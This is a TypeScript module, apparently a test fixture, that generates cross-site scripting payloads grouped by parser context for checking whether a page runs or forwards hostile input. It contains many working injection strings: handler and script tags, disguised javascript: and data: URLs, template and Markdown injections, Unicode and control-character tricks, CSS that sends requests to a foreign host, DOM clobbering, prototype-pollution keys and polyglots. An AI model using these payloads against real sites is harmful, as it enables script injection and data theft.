/**
 * Texts of attackers that want the page to run them, made by rules, kind by kind. The kinds follow the parsers that a text could reach: HTML, with
 * SVG and MathML, attributes, addresses, CSS, JSON, Markdown, templates.
 */
import { HANDLERS, LOADS, MUTATIONS, SCRIPTS, SPELLINGS } from './xss-markup';

export type Attack = { kind: string; text: string };

/** `elsewhere` is the origin of a server that must never get a request. */
export function attacks(elsewhere: string): Attack[] {
  const all = Object.entries(KINDS).flatMap(([kind, make]) => make(elsewhere).map((text) => ({ kind, text })));
  return all.filter(({ text }, index) => all.findIndex((other) => other.text === text) === index);
}

/** The first attack of each kind that fits. A kind without a fitting attack is left out. */
export const oneOfEach = (all: readonly Attack[], fits: (attack: Attack) => boolean = () => true): Attack[] =>
  Object.keys(KINDS).flatMap((kind) => all.find((attack) => attack.kind === kind && fits(attack)) ?? []);

/** Each leaves a trace that a test detects. `%` is replaced by a foreign address. */
const DEEDS = ['alert(1)', 'window.xss=1', 'top[`confirm`](1)', 'fetch(`%/f`)', 'open(`%/o`)', 'location=`%/l`', '(prompt)(1)', 'new Image().src=`%/i`', 'print()'];

/** Texts with each `§` replaced by the actions in turn. */
const doing = (elsewhere: string, texts: readonly string[]): string[] =>
  texts.map((text, index) => text.replaceAll('§', () => deed(elsewhere, index)));
const deed = (elsewhere: string, index: number): string => (DEEDS[index % DEEDS.length] ?? '').replaceAll('%', elsewhere);

/** Texts that a browser or a program may send as a header's value. */
export const isHeader = ({ text }: Attack): boolean => /^[\x20-\x7e]{1,256}$/u.test(text);

/** The server accepts a message with any characters except NUL. */
export const isContent = ({ text }: Attack): boolean => !text.includes('\0');

/** Names, statuses and notes are one line, without invisible characters. */
export const isLine =
  (longest: number) =>
  ({ text }: Attack): boolean =>
    /^[^\p{Cc}\p{Cf}\p{Zl}\p{Zp}]+$/u.test(text) && text.normalize('NFKC').length <= longest;

const KINDS: Record<string, (elsewhere: string) => string[]> = {
  'a handler': (elsewhere) => doing(elsewhere, HANDLERS.map(([start, handler]) => `<${start} ${handler}=§>`)),
  'a handler, spelled otherwise': (elsewhere) => doing(elsewhere, SPELLINGS),
  'a script': (elsewhere) => doing(elsewhere, SCRIPTS.map((text) => text.replaceAll('%', elsewhere))),
  'something to load': (elsewhere) => LOADS.map((text) => text.replaceAll('%', elsewhere)),
  'an address that runs': (elsewhere) => doing(elsewhere, SCHEMES.flatMap(disguised)),
  'an address of another scheme': (elsewhere) => doing(elsewhere, REST),
  'an address in a tag': (elsewhere) => doing(elsewhere, ['a href', 'form action', 'iframe src', 'object data', 'svg><a xlink:href', 'math href', 'base href', 'button formaction'].map((tag) => `<${tag}="javascript:§">x`)),
  'an address with markup inside': (elsewhere) => doing(elsewhere, LINKS),
  'markup that changes when it is parsed again': (elsewhere) => doing(elsewhere, MUTATIONS),
  'a way out': (elsewhere) => doing(elsewhere, ENDS.flatMap((end) => [`${end}<img src=x onerror=§>`, `${end}<svg onload=§>`]).concat(QUOTED)),
  'a template': (elsewhere) => doing(elsewhere, TEMPLATES),
  'look-alikes and turned text': (elsewhere) => doing(elsewhere, UNICODE),
  'control characters': (elsewhere) => doing(elsewhere, CONTROLS.flatMap((control) => [`<img${control}src=x onerror=§>`, `java${control}script:§`])),
  'a style': (elsewhere) => STYLES.map((text) => text.replaceAll('%', elsewhere)),
  'a name that hides another': () => CLOBBERED.flatMap((name, index) => [name, CLOBBERS[index % CLOBBERS.length]?.replaceAll('%', name) ?? '']),
  'a key of every object': (elsewhere) => doing(elsewhere, KEYS),
  'Markdown': (elsewhere) => doing(elsewhere, MARKDOWN.map((text) => text.replaceAll('%', elsewhere))),
  'many at once': (elsewhere) => doing(elsewhere, MANY),
};

/** Such as `javascript:`, each with its payload. */
const SCHEMES: readonly (readonly [string, string])[] = [
  ['javascript', '§'],
  ['javascript', '//x/%0a§'],
  ['vbscript', 'msgbox(1)'],
  ['data', 'text/html,<script>§</script>'],
  ['data', 'text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='],
  ['data', 'image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="§"/>'],
];
const REST = [
  'blob:http://127.0.0.1/1',
  'file:///etc/passwd',
  'view-source:javascript:§',
  'feed:javascript:§',
  'jar:http://x/!/§',
  'filesystem:http://x/temporary/§',
  'intent:#Intent;end',
  'about:blank',
  'chrome://settings',
];

function disguised([scheme, what]: readonly [string, string]): string[] {
  const head = scheme.slice(0, 4);
  const tail = scheme.slice(4);
  return [
    `${scheme}:${what}`,
    `${scheme.toUpperCase()}:${what}`,
    `${head}\t${tail}:${what}`,
    `${head}\n${tail}:${what}`,
    `&#${scheme.charCodeAt(0)};${scheme.slice(1)}:${what}`,
    `%${scheme.charCodeAt(0).toString(16)}${scheme.slice(1)}:${what}`,
    `${scheme}&colon;${what}`,
    `http://x/?u=${scheme}:${what}`,
  ];
}

/** The page's own links. */
const LINKS = [
  'http://x/%3Cimg src=x onerror=§%3E',
  'http://x/%3Cimg%20src=x%20onerror=§%3E',
  'http://x/%253Cimg%2520src=x%2520onerror=§%253E',
  'http://x/%c0%bcsvg%20onload=§%c0%be',
  'http://x/&lt;svg%20onload=§&gt;',
  'http://x/"onmouseover="§',
  "http://x/'onmouseover='§",
  'http://x/`onmouseover=`§',
  'http://x/"><svg onload=§>',
  'http://x/<svg onload=§>',
  'http://x/\u0001"onfocus=§',
  'http://x/?q=</a><script>§</script>',
  'http://x/#</a><script>§</script>',
  'http://javascript:§@x/',
  'http://x\\javascript:§',
  'http:javascript:§',
  'https://[javascript:§',
  'https://x:javascript/§',
  'hTTp://x/\u202e%3Cgpj.exe',
  'https://xn--80ak6aa92e.com/§',
  'mailto:a@x?body=<script>§</script>',
  'mailto:"onclick=§"@x',
  'mailto:javascript:§',
  '<a href="http://x/" onclick="§">http://x/</a>',
  '<a href=http://x onmouseover=§>http://x',
];

/** Texts that could end the place into which a text was put. */
const ENDS = ['">', "'>", '`>', '-->', '--!>', ']]>', '*/', '}', ');', '</title>', '</style>', '</script>', '</textarea>', '</noscript>', '</li></ol>'];
const QUOTED = [
  '" autofocus onfocus=§ x="',
  "' autofocus onfocus=§ x='",
  '" onpointerover="§',
  "' style='animation:x 1s' onanimationstart='§",
  "';§;//",
  '";§;//',
  "\\';§;//",
  '`;§;`',
  'x\n§\n//',
  'x\u2028§\u2028//',
];

const TEMPLATES = [
  '${§}',
  '{{§}}',
  '{{{§}}}',
  '{§}',
  '#{§}',
  '<%= § %>',
  '<?= § ?>',
  '[[§]]',
  '@{§}',
  '*{§}',
  '{@html `<img src=x onerror=§>`}',
  '{§each [1] as x}{§}{/each}',
  '{@render §}',
  '{{constructor.constructor(`§`)()}}',
  '{{$on.constructor(`§`)()}}',
  '<div v-html="§">',
  '<div ng-app ng-init="§">',
  '<div x-data x-init="§">',
  '<div bind:innerHTML={§}>',
];

const UNICODE = [
  '\uff1cimg src=x onerror=§\uff1e',
  '\ufe64svg onload=§\ufe65',
  '\u2039svg onload=§\u203a',
  '\u02c2svg onload=§\u02c3',
  '\u226esvg onload=§\u226f',
  '<\u0338svg onload=§>',
  '\u202e<svg onload=§>',
  '\u202egpj.<img src=x onerror=§>\u202c',
  '\u2066<svg onload=§>\u2069',
  '<\u200bimg src=x onerror=§>',
  '<img\u00a0src=x\u00a0onerror=§>',
  '<img\u3000src=x onerror=§>',
  '<\u017fvg onload=§>',
  '<\u017fcript>§</\u017fcript>',
  '<i\u006dg src=x onerror=§>',
  '<img src=x onerror=\uff02§\uff02>',
  'java\u00adscript:§',
  'x\ufeff<svg onload=§>x',
  '<svg\u0085onload=§>',
  '\u{e003c}<svg onload=§>',
  '\u00bcscript\u00be§\u00bc/script\u00be',
  '👩\u200d💻<svg onload=§>',
  '<img src=x onerror=§>\u0301',
];

const CONTROLS = ['\u0000', '\u0001', '\u0008', '\u000b', '\u001b', '\u007f', '\r', '\r\n'];

const STYLES = [
  '<style>*{background:url(%/s)}</style>',
  '<style>@import "%/s";</style>',
  '<style>@font-face{font-family:x;src:url(%/f)}*{font-family:x}</style>',
  '<div style="background:url(%/s)">',
  '<div style=background:image-set("%/s")>',
  '<div style="width:expression(alert(1))">',
  '<div style="behavior:url(%/s)">',
  '<div style="-moz-binding:url(%/s#x)">',
  '<div style="position:fixed;inset:0;z-index:9999">',
  '<style>input[value^=a]{background:url(%/a)}',
  'red;background:url(%/s)',
  '}*{background:url(%/s)}',
  'x:url(%/s);--hue:1',
  '</style><style>*{display:none}',
];

/** Names that a page could look up in the document or on its global object. */
const CLOBBERED = ['cookie', 'location', 'body', 'head', 'forms', 'domain', 'currentScript', 'defaultView', 'getElementById', 'querySelector', 'self', 'top', 'config', 'name', 'innerHTML', 'onerror', 'alert'];
const CLOBBERS = ['<img name=%>', '<form id=%><input name=%>', '<a id=%><a id=% name=url href="javascript:alert(1)">', '<iframe name=% srcdoc=x></iframe>', '<object id=%></object>'];

const KEYS = [
  '__proto__',
  'constructor',
  'prototype',
  'constructor.prototype',
  'hasOwnProperty',
  'toString',
  'valueOf',
  'then',
  'toJSON',
  '__defineGetter__',
  'watch',
  '{"__proto__":{"xss":1}}',
  '{"constructor":{"prototype":{"xss":1}}}',
  '{"then":"§"}',
  '__proto__[xss]=1',
  '__proto__.innerHTML=<img src=x onerror=§>',
  '["__proto__"]',
  '[object Object]',
  'null',
  'undefined',
  'NaN',
];

const MARKDOWN = [
  '[x](javascript:§)',
  '[x](JaVaScRiPt:§)',
  '[x](<javascript:§>)',
  '[x](data:text/html,<script>§</script>)',
  '[x](http://x "onmouseover=§")',
  '[x](http://x/"onmouseover="§)',
  '[x]: javascript:§',
  '![x](%/i)',
  '![x](x"onerror="§)',
  '![x"onerror="§](x)',
  '<javascript:§>',
  '<http://x/"onclick=§>',
  '`<img src=x onerror=§>`',
  '```html\n<img src=x onerror=§>\n```',
  '```"><svg onload=§>\n```',
  '**<svg onload=§>**',
  '| <svg onload=§> |\n|---|',
  '# <svg onload=§>',
  '> <svg onload=§>',
  ':img[x]{onerror=§}',
  '[[<svg onload=§>]]',
  '@<svg onload=§>',
];

const MANY = [
  'javascript:"/*\'/*`/*--></title></style></textarea></noscript></template></script><svg/onload=§>',
  '"\'`><svg onload=§>{{§}}${§}</script><script>§</script>',
  '*/§/*<!--"><img src=x onerror=§>-->\'',
  '<svg><script>§<!--</script><img src="]]>" onerror=§>',
  '%22%27%3E%3Csvg%20onload=§%3E"\'><svg onload=§>',
  '</textarea>\'"><iframe srcdoc="<script>parent.§</script>">',
  `${'<b>'.repeat(60)}<img src=x onerror=§>`,
  `${'A'.repeat(3000)}<img src=x onerror=§>`,
];
